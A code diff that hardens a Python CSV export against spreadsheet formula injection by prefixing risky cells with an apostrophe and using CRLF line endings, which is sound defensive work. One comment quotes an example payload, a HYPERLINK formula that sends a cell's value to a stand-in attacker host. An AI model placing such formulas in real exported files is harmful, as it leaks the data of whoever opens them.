@@ -134,12 +134,28 @@ def tables(report: Report) -> dict[str, list[dict[str, Any]]]:
 # -- files -------------------------------------------------------------------------------------
 
 
+# A text cell starting with one of these is a formula to Excel, LibreOffice and Sheets: a
+# display name such as =HYPERLINK("https://evil.example/?"&C2) would run when HR opens the file.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cell(value: Any) -> Any:
+    """``value`` as a CSV cell a spreadsheet shows as text (OWASP's advice: a leading
+    apostrophe); numbers stay numbers."""
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def _csv(rows: list[dict[str, Any]], columns: Sequence[str]) -> str:
     out = io.StringIO()
-    writer = csv.DictWriter(out, fieldnames=list(columns), lineterminator="\n")
+    # CRLF as RFC 4180 has it; it also makes the writer quote a cell holding a lone CR.
+    writer = csv.DictWriter(out, fieldnames=list(columns), lineterminator="\r\n")
     writer.writeheader()
     for row in rows:
-        writer.writerow({k: "" if row.get(k) is None else row[k] for k in columns})
+        writer.writerow({k: _cell(row.get(k)) for k in columns})
     return out.getvalue()
 
 
